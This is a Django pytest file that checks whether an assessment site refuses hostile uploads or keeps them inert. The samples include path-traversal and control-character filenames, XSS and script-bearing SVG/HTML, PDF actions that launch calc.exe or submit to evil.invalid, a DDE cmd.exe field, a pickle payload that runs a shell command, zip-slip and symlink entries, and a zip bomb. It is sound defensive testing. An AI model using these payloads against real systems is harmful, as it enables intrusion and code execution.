"""Files that mean harm, at every door of the site that takes one: each is refused in a sentence or kept inert, and the site goes on answering."""

from __future__ import annotations

import io
import random
import re
import resource
import shutil
import stat
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.handlers.base import BaseHandler
from django.db import transaction
from django.test import Client, RequestFactory

from kaoping.core.errors import KaopingError
from kaoping.core.package import check
from kaoping.read.package import Package
from kaoping.web.files import worker
from kaoping.web.files.limits import LIMITS
from kaoping.web.models import Document, EvidenceFile
from kaoping.web.policy import EntryState, PanelState, Stage
from kaoping.web.queries.plan_roster import from_workbook as roster
from kaoping.web.queries.results_book import from_workbook as dailies
from read.test_guard import HOSTILE
from web.api.leaving import package
from web.files.making import EICAR, MB, good, pdf, photo, word, word_parts, zipped
from web.files.test_hostile import HEAVY, IN_PACKAGES, OTHERS, PACKAGES
from web.world import World, build

from .conftest import Record
from .test_payloads import active

SECONDS = 12.0  # 10 of the process that reads, and what the site takes around it, on a machine that does other things as well
NAMES = (
    "../../../etc/passwd.docx", "..\\..\\win.ini.docx", "/etc/cron.d/evil.docx", "C:\\CON.docx", "CON.docx", "aux.docx",
    "\u202excod.exe.docx", "报告\u202e.docx", "a\r\nX: 1.docx",
    "x" * 300 + ".docx", "甲" * 200 + ".docx", ".docx", "<script>alert(1)</script>.docx", "\"onload=alert(1).docx", "a;b=c.docx",
    "%2e%2e%2fetc.docx", "a.docx.", "a.docx ", "\0.docx",
    "a.docx\0.exe", "a.exe", "a", "a.svg", "a.html", "a.docx::$DATA", "~$a.docx",
)  # fmt: skip
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"


def hostile() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """What it is, the name that it comes under, and how it is made."""
    for kind, parts in PACKAGES.items():
        for what, (make, _) in IN_PACKAGES.items():
            yield f"{kind} with {what}", f"材料.{kind}", lambda make=make, parts=parts, kind=kind: make(parts(), kind)
    for what, (single, name, _) in OTHERS.items():
        yield what, name, single
    for what, (kind, heavy) in HEAVY.items():
        yield what, f"重.{kind}", heavy
    for what, (guarded, _) in HOSTILE.items():
        sheet = any(word_ in what for word_ in ("Excel", "cell at", "far corners"))
        ending = "pdf" if "PDF" in what else "txt" if "text" in what or "100 MB" in what else "xlsx" if sheet else "docx"
        yield f"as a standard: {what}", f"标准.{ending}", guarded
    for kind, body in good().items():
        for n, junk in enumerate((HTML, EICAR, b"MZ" + b"\0" * 99)):
            yield f"{kind} behind junk {n}", f"a.{kind}", lambda junk=junk, body=body: junk + body
        for share in (0.02, 0.5, 0.97):
            yield f"{kind} cut at {share}", f"a.{kind}", lambda body=body, share=share: body[: int(len(body) * share)]
        for disguise in (SVG, HTML, EICAR, b"\x7fELF" + b"\0" * 99, b"Rar!\x1a\x07\0" + b"\0" * 99):
            yield f"{disguise[:6]!r} as {kind}", f"a.{kind}", lambda disguise=disguise: disguise
    for name in NAMES:
        yield f"named {name[:30]!r}", name, word
    for action in (b"/S /JavaScript /JS (app.alert(1))", b"/S /Launch /F (calc.exe)", b"/S /URI /URI (http://evil.invalid/)", b"/S /SubmitForm /F (http://evil.invalid/)"):
        yield f"pdf with {action[:14]!r}", "a.pdf", lambda action=action: pdf(catalog=b"/OpenAction << %s >>" % action)
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield "docx with DDE", "a.docx", lambda: word(field)
    yield "docx with a script in its text", "a.docx", lambda: word("<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p>")
    yield "docx within docx", "a.docx", lambda: zipped({**word_parts(), "word/embeddings/a.docx": word()})
    yield "photo with a place in it", "a.jpg", lambda: photo(gps=True)
    yield "photo and page in one", "a.jpg", lambda: photo() + HTML


def _stored() -> set[str]:
    place = Path(settings.STATE)
    return {str(f.relative_to(place)) for f in place.rglob("*") if f.is_file() and not f.name.endswith((".sqlite3", "-wal", "-shm"))}


def _sentence(text: str) -> bool:
    return bool(text.strip()) and "Traceback" not in text and "Error" not in text and re.search(r"[\u4e00-\u9fff]", text) is not None


@pytest.fixture
def district(db: None) -> World:
    return build()


class Doors:
    """Every way in for a file. What goes wrong is told in `wrong`; nothing that came in stays, so that each file meets the same site."""

    def __init__(self, world: World) -> None:
        self.world, self.wrong, self.slowest, self.kept, self.refused = world, list[str](), 0.0, 0, 0
        self.entry = world.entries["陈炉镇"].pk
        self.clerk, self.office, self.member = world.client("陈炉镇联络员"), world.client("王主任"), world.client("组员甲")
        for one in (self.clerk, self.office, self.member):
            one.raise_request_exception = False

    def knock(self, door: Callable[[str, bytes], None], what: str, name: str, body: bytes) -> None:
        start = time.monotonic()
        try:
            with transaction.atomic():
                door(name, body)
                transaction.set_rollback(True)
        except AssertionError as error:
            self.wrong.append(f"{door.__name__}: {what}: {error}")
        took = time.monotonic() - start
        self.slowest = max(self.slowest, took)
        if took > SECONDS * (4 if door == self.evidence else 1):  # which asks for the file and three pages of it as well
            self.wrong.append(f"{door.__name__}: {what}: {took:.0f} seconds")

    def evidence(self, name: str, body: bytes) -> None:
        answer = _sent(self.clerk, f"/e/{self.entry}/evidence/add", "files", name, body, json=True)
        assert answer.status_code in (200, 422), answer.status_code
        told = answer.json()["files"]
        assert all(_sentence(one["sentence"]) for one in told), told
        self.refused += answer.status_code == 422
        for file in EvidenceFile.objects.all():
            self.kept += 1
            assert not re.search(r"[/\\\x00-\x1f\u202a-\u202e\u2066-\u2069]", file.name), file.name
            taken = self.clerk.get(f"/v/{file.evidence_id}/1/file")
            assert taken["Content-Disposition"].startswith("attachment") and taken["X-Content-Type-Options"] == "nosniff"
            assert "sandbox" in taken["Content-Security-Policy"]
            assert b"".join(taken.streaming_content) == body
            for page in (1, 2, 99_999):
                shown: Any = self.clerk.get(f"/v/{file.evidence_id}/1/preview", {"page": page})
                assert shown.status_code == 200 and "sandbox" in shown["Content-Security-Policy"] and "allow-scripts" not in shown["Content-Security-Policy"]
                assert active(shown.content.decode()) == []

    def standard(self, name: str, body: bytes) -> None:
        answer = _sent(self.office, "/standards/add", "file", name, body, year="2026", previous="auto")
        assert answer.status_code in (302, 422), answer.status_code
        text = answer.content.decode()
        assert active(text) == []
        self.refused += answer.status_code == 422
        if answer.status_code == 302:
            self.kept += 1
            page: Any = self.office.get(answer["Location"])
            assert page.status_code == 200 and active(page.content.decode()) == [], answer["Location"]
            assert Document.objects.exists()

    def book(self, name: str, body: bytes) -> None:
        answer = _sent(self.member, f"/a/{self.world.assessment.pk}/mark/book/bring", "book", name, body)
        assert answer.status_code == 422 and active(answer.content.decode()) == [], answer.status_code
        self.refused += 1

    def imports(self, name: str, body: bytes) -> None:
        for read in (roster, dailies):
            try:
                read(body, name)
            except KaopingError as error:
                assert _sentence(str(error)), error
                self.refused += 1


def _sent(client: Client, url: str, field: str, name: str, body: bytes, json: bool = False, **more: str) -> Any:
    upload = SimpleUploadedFile("x", body)
    upload._name = name  # as a client that is no browser may send it
    return client.post(url, {field: upload, **more}, headers={"Accept": "application/json"} if json else {})


def test_two_hundred_hostile_files_are_refused_in_a_sentence_or_kept_inert(district: World, figure: Record, long: bool) -> None:
    files = list(hostile())
    assert len(files) >= 200, len(files)
    doors, before, waits, over = Doors(district), _stored(), list[float](), threading.Event()
    heard = threading.Thread(target=_healthy, args=(over, waits))
    heard.start()
    tried = 0
    try:
        district.at(Stage.REPORT, EntryState.OPEN, PanelState.MARKING)
        luck = random.Random(15)
        some = files if long else luck.sample([f for f in files if f[0] not in HEAVY and "as a standard" not in f[0]], 24)
        for what, name, make in some:
            body = make()
            for door in (doors.evidence, doors.standard, doors.imports) if len(body) < 30 * MB else (doors.evidence, doors.standard):
                doors.knock(door, what, name, body)
                tried += 1
        district.at(Stage.MARK, EntryState.CONFIRMED, PanelState.MARKING)
        for what, name, make in some:
            doors.knock(doors.book, what, name, make())
            tried += 1
    finally:
        over.set()
        heard.join()
    outside = [f for f in _stored() - before if not re.match(r"(evidence/)?(sm3|sha256)/|kaoping\.log|worker", f)]
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    worker._NURSERY.stop()
    assert doors.wrong == [] and outside == [], "\n".join([*doors.wrong[:20], *outside])
    assert doors.refused > tried / 2 and doors.kept
    said = f"{len(some)}个文件；收下{doors.kept}次（只存、无脚本），其余一句话拒绝；"
    said += f"最慢{doors.slowest:.1f}秒，网站应答最慢{max(waits):.2f}秒，试验的进程（连同造这些文件）内存最高{peak:.0f} MB，读文件的限{LIMITS.memory // MB} MB"
    figure("T15", tried=tried, failed=len(doors.wrong) + len(outside) + sum(w > 3 for w in waits), said=said)


def _healthy(over: threading.Event, waits: list[float]) -> None:
    """What somebody else waits for a page that needs no database, all the while. Not by a Client: two of them at once undo each other's keeping of the
    connection."""
    site = BaseHandler()
    site.load_middleware()
    while not over.wait(0.2):
        start = time.monotonic()
        assert site.get_response(RequestFactory().get("/api/openapi.json")).status_code < 500
        waits.append(time.monotonic() - start)


def _spoilt(members: dict[str, bytes], luck: random.Random) -> Iterator[tuple[str, list[tuple[zipfile.ZipInfo, bytes]]]]:
    """A package made into something else, a hundred ways."""
    whole = [(zipfile.ZipInfo(n), b) for n, b in members.items()]
    paths = ("../evil", "../../etc/cron.d/x", "/etc/passwd", "C:\\x", "standard\\..\\x", "evidence/../x", "evidence/a/b",
        "./manifest.json", "Manifest.json", "MARKS.JSON", "evil.pkl", "x.py",
             "evidence/.", "standard/..", "~/.bashrc", "evidence//x", "\\\\host\\x", "a:b", "evidence/\x01", "setup.cfg")  # fmt: skip
    for path in paths:
        info = zipfile.ZipInfo("x")
        info.filename = info.orig_filename = path
        yield f"with {path!r}", [*whole, (info, b"cos\nsystem\n(S'touch /tmp/evil'\ntR.")]
    for mode in (stat.S_IFLNK, stat.S_IFDIR, stat.S_IFIFO, stat.S_IFCHR):
        info = zipfile.ZipInfo("evidence/x")
        info.external_attr = (mode | 0o777) << 16
        yield f"with a link {mode:o}", [*whole, (info, b"/etc/passwd")]
    for name in members:
        yield f"twice {name}", [*whole, (zipfile.ZipInfo(name), b"{}")]
        yield f"without {name}", [(i, b) for i, b in whole if i.filename != name]
        for n in range(6):
            at = luck.randrange(max(1, len(members[name])))
            body = bytearray(members[name])
            if body:
                body[at] ^= 1 + n
            yield f"{name} changed at {at}", [(i, bytes(body) if i.filename == name else b) for i, b in whole]
    yield "a bomb", [*whole, (zipfile.ZipInfo("evidence/" + "0" * 64), b"\0" * (190 * MB))]


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_package_that_was_tampered_with_is_refused_whole_and_writes_nothing(district: World, tmp_path: Path, figure: Record, long: bool) -> None:
    district.at()
    with zipfile.ZipFile(io.BytesIO(package(district, files=True))) as held:
        members = {n: held.read(n) for n in held.namelist()}
    place = tmp_path / "in"
    place.mkdir()
    tried, accepted = 0, []
    cases = list(_spoilt(members, random.Random(16)))
    assert len(cases) >= 100
    for what, parts in cases if long else cases[:: 4]:
        file = place / "a.kaoping"
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
            for info, body in parts:
                info.compress_type = zipfile.ZIP_DEFLATED
                out.writestr(info, body)
        tried += 1
        try:
            opened = Package(file)
            faults = check(opened.names(), opened.read).faults
            opened.close()
        except KaopingError as error:
            faults = [str(error)]
        if not faults or not _sentence(faults[0]) or any("Traceback" in f for f in faults):
            accepted.append(f"{what}: {faults[:1]}")
        file.unlink()
    outside = [f for f in tmp_path.rglob("*") if f != place] + [f for f in (Path("/tmp/evil"),) if f.exists()]
    shutil.rmtree(place)
    assert accepted == [] and outside == [], (accepted[:5], outside)
    figure("T16", tried=tried, failed=len(accepted) + len(outside), on="考核包",
        said="每份都说出哪里不对；没有在别处写下任何文件，没有运行任何东西（备份的见T20）")
